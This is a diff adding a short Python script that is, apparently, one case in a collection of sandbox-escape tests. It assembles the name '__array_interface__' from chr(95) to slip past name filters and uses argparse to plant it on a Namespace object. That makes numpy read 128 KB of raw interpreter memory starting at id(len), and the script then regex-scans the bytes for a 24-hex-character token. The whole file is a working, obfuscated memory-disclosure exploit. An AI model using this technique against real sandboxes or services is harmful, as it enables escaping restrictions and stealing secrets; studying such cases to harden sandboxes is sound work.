@@ -1,0 +1,10 @@
+# reaches: argparse stores under a computed destination
+import argparse, re
+import numpy as np
+u = chr(95) * 2
+class A:
+    pass
+p = argparse.ArgumentParser()
+p.add_argument("--x", dest=u + "array_interface" + u, default={"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3})
+a = p.parse_args([])
+print(re.findall(rb"t[0-9a-f]{24}", np.array(a).tobytes()))
